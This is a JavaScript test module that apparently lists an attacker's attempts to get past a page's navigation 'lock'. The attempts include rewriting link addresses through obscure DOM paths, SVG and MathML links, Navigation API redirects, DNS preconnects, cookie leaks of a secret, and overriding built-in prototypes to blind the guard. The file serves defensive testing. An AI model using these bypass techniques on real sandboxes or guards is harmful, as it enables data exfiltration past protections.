/**
 * What an attacker tries who has read src/shared/bridge/lock.ts: to replace what the lock calls, to be called before it, and
 * to write an address where it does not look.
 */
const alone = true;
const where = ["page"];
const row = (name, run, more = {}) => ({ name, where, alone, ...more, run });
const early = {
  chromium: "no look-up ahead of time under a test's control",
  firefox: "the unprotected page has none",
};

/** Ways to write an address into a link that the page lets a script make. The link is then opened in another window. */
const addresses = {
  "its parts": (a, to) => {
    const { hostname, port, pathname } = new URL(to);
    a.href = "./";
    Object.assign(a, { hostname, port, pathname });
  },
  "an attribute node": (a, to) => {
    const href = document.createAttribute("href");
    href.value = to;
    a.setAttributeNode(href);
  },
  "the value of its attribute": (a, to) => {
    a.setAttribute("href", "./");
    a.attributes.href.value = to;
  },
  "the node value of its attribute": (a, to) => {
    a.setAttribute("href", "./");
    a.attributes.href.nodeValue = to;
  },
  "the text of its attribute": (a, to) => {
    a.setAttribute("href", "./");
    a.attributes.href.textContent = to;
  },
  "its list of attributes": (a, to) => {
    const href = document.createAttribute("href");
    href.textContent = to;
    a.attributes.setNamedItem(href);
  },
  "an attribute in capitals": (a, to) => a.setAttribute("HREF", to),
  "an attribute of no namespace": (a, to) => a.setAttributeNS(null, "href", to),
  "an address that changes while it is read": (a, to) => {
    let times = 0;
    a.setAttribute("href", { toString: () => (times++ > 0 ? to : "./") });
    if (times < 2) a.href = { toString: () => (times++ > 1 ? to : "./") };
    if (!a.href.startsWith(to)) a.href = to;
  },
  "a prototype changed": (a, to) => {
    Object.setPrototypeOf(a, HTMLElement.prototype);
    a.setAttribute("href", to);
  },
  "rules that find nothing": (a, to) => {
    RegExp.prototype.exec = () => [""];
    RegExp.prototype.test = () => true;
    String.prototype.startsWith = () => true;
    a.setAttribute("href", to);
  },
  "a method caught when it is called": (a, to) => {
    const { apply, call } = Function.prototype;
    const caught = [];
    Function.prototype.apply = function (...x) {
      caught.push(this);
      return Reflect.apply(apply, this, x);
    };
    a.setAttribute("href", "./");
    Function.prototype.apply = apply;
    Function.prototype.call = call;
    for (const method of [...caught, a.setAttribute]) Reflect.apply(method, a, ["href", to]);
  },
};

export const byRewriting = [
  ...Object.entries(addresses).map(([how, write]) =>
    row(
      `a target=_blank, its address written by ${how}`,
      new Function(
        "w",
        "c",
        "h",
        `const a = h.make("a", { target: "_blank" });
         w.document.body.append(a);
         // In this window the address must not fail by the page's guard, but by itself.
         (${/^\(/.test(String(write)) ? write : `function ${write}`})(a, h.to());
         a.click();
         return h.wait(c.patience).then(() => "clicked");`,
      ),
      // What it rewrites would change later attempts.
      { dirty: true },
    ),
  ),
  row("SVG a target=_blank", async (w, c, h) => {
    const svg = h.svg("svg");
    const a = h.svg("a", { href: h.to(), target: "_blank" });
    svg.append(a);
    w.document.body.append(svg);
    a.dispatchEvent(new w.MouseEvent("click", { bubbles: true, cancelable: true }));
    await h.wait(c.patience);
    return "clicked";
  }),
  row(
    "SVG a target=_blank, made by a name with two colons",
    async (w, c, h) => {
      const svg = h.svg("svg");
      const a = h.svg("x:a:x", { target: "_blank" });
      h.need(a.href);
      a.href.baseVal = h.to();
      svg.append(a);
      w.document.body.append(svg);
      a.dispatchEvent(new w.MouseEvent("click", { bubbles: true, cancelable: true }));
      await h.wait(c.patience);
      return "clicked";
    },
    { cannot: { firefox: "no link by such a name" } },
  ),
  row(
    "an address rewritten while the page goes to one of its own (precommitHandler), then reload",
    async (w, c, h) => {
      h.need(w.NavigationPrecommitController);
      for (const r of (await w.navigator.serviceWorker?.getRegistrations()) ?? []) await r.unregister();
      const precommitHandler = async (to) => to.redirect(h.near);
      w.navigation.addEventListener("navigate", (e) => e.intercept({ precommitHandler }), { once: true });
      await w.navigation.navigate("./?lang=en").committed;
      w.location.reload();
      await h.wait(c.patience);
      return "asked";
    },
    { dirty: true },
  ),
  row(
    "the same, then a prefetch by a copy of a link of the page's own",
    async (w, c, h) => {
      h.need(w.NavigationPrecommitController);
      const link = w.document.querySelector("link")?.cloneNode() ?? h.make("link");
      for (const r of (await w.navigator.serviceWorker?.getRegistrations()) ?? []) await r.unregister();
      const precommitHandler = async (to) => to.redirect(`${c.own}${c.id}/${c.secret}/`);
      w.navigation.addEventListener("navigate", (e) => e.intercept({ precommitHandler }), { once: true });
      await w.navigation.navigate("./?lang=en").committed;
      link.rel = "prefetch";
      link.href = "./";
      w.document.head.append(link);
      await h.wait(c.patience);
      return "asked";
    },
    { dirty: true },
  ),
  row("a target=_blank by setHTML", async (w, c, h) => {
    const box = h.make("div");
    h.need(box.setHTML);
    w.document.body.append(box);
    const sanitizer = { elements: [{ name: "a", attributes: ["href", "target"] }] };
    box.setHTML(`<a href="${h.to()}" target="_blank">x</a>`, { sanitizer });
    box.firstChild.click();
    await h.wait(c.patience);
    return "clicked";
  }),
  row("a target=_blank by execCommand", async (w, c, h) => {
    const box = h.make("div", { contenteditable: "true" });
    box.textContent = "x";
    w.document.body.append(box);
    w.getSelection().selectAllChildren(box);
    h.need(w.document.execCommand);
    w.document.execCommand("createLink", false, h.to());
    box.contentEditable = "false";
    box.firstChild.target = "_blank";
    box.firstChild.click();
    await h.wait(c.patience);
    return "clicked";
  }),
  row("a target=_blank to a page of the script's own that goes on from there", async (w, c, h) => {
    const page = new Blob([`<meta http-equiv="refresh" content="0;url=${h.to()}">`], { type: "text/html" });
    const a = h.make("a", { target: "_blank", href: URL.createObjectURL(page) });
    w.document.body.append(a);
    a.click();
    await h.wait(c.patience);
    return "clicked";
  }),
  row(
    "MathML link, clicked",
    async (w, c, h) => {
      const math = "http://www.w3.org/1998/Math/MathML";
      const [outer, inner] = ["math", "mtext"].map((name) => w.document.createElementNS(math, name));
      outer.setAttribute("href", h.to());
      inner.textContent = "x";
      outer.append(inner);
      w.document.body.append(outer);
      outer.dispatchEvent(new w.MouseEvent("click", { bubbles: true, cancelable: true }));
      await h.wait(c.patience);
      return "clicked";
    },
    { cannot: { chromium: "not in this browser", firefox: "no link without a setting" } },
  ),
  row("document.open of another window", async (w, c, h) => {
    h.need(w.document.open);
    const other = w.document.open(h.to(), "", "");
    await h.wait(c.patience);
    return other ? "open" : "no window";
  }),
  row("location, behind a listener that comes first", async (w, c, h) => {
    w.navigation?.addEventListener("navigate", (e) => e.stopImmediatePropagation(), true);
    w.location.href = h.to();
    await h.wait(c.patience);
    return "set";
  }),
  row(
    "location, with everything rewritten that could forbid it",
    async (w, c, h) => {
      const to = h.to();
      const yes = () => true;
      const here = w.location.href;
      const property = (of, name, get) => of && Object.defineProperty(of, name, { get });
      w.Event.prototype.preventDefault = () => {};
      property(w.Event.prototype, "cancelable", () => false);
      property(w.NavigateEvent?.prototype, "navigationType", () => "reload");
      property(w.NavigateEvent?.prototype, "destination", () => ({ url: here }));
      property(w.NavigationDestination?.prototype, "url", () => here);
      w.RegExp.prototype.test = yes;
      w.RegExp.prototype.exec = () => [""];
      Object.assign(w.String.prototype, { startsWith: yes, slice: () => here, split: () => [here, ""] });
      w.location.href = to;
      await h.wait(c.patience);
      return "set";
    },
    { dirty: true },
  ),
  row(
    "DNS: the page's own style sheet, turned into a preconnect by an attribute",
    async (w, c, h) => {
      const link = w.document.querySelector("link[rel=stylesheet]");
      h.need(link);
      link.setAttribute("rel", "preconnect");
      link.setAttribute("href", `https://${c.host}/`);
      await h.wait(c.patience);
      return "asked";
    },
    { sink: "dns", dirty: true, cannot: early },
  ),
  row(
    "DNS: a copy of a link of the page's own, turned into a preconnect",
    async (w, c, h) => {
      const link = w.document.querySelector("link")?.cloneNode();
      h.need(link);
      link.rel = "preconnect";
      link.href = `https://${c.host}/`;
      w.document.head.append(link);
      await h.wait(c.patience);
      return "asked";
    },
    { sink: "dns", dirty: true, cannot: early },
  ),
  row(
    "DNS: link rel=preconnect by setHTML",
    async (w, c, h) => {
      const box = h.make("div");
      h.need(box.setHTML);
      w.document.body.append(box);
      const sanitizer = { elements: [{ name: "link", attributes: ["rel", "href"] }] };
      box.setHTML(`<link rel="preconnect" href="https://${c.host}/">`, { sanitizer });
      await h.wait(c.patience);
      return "asked";
    },
    { sink: "dns", cannot: { chromium: early.chromium } },
  ),
  row(
    "cookie, then reload: the own host is told",
    async (w, c, h) => {
      h.need(Object.getOwnPropertyDescriptor(w.Document.prototype, "cookie"));
      w.document.cookie = `p${w.location.port}=${c.id}-${c.secret}; max-age=60`;
      w.location.reload();
      await h.wait(c.patience);
      return "asked";
    },
    { dirty: true },
  ),
  row(
    "cookieStore, then reload: the own host is told",
    async (w, c, h) => {
      h.need(w.cookieStore);
      await w.cookieStore.set(`p${w.location.port}`, `${c.id}-${c.secret}`);
      w.location.reload();
      await h.wait(c.patience);
      return "asked";
    },
    { dirty: true },
  ),
];
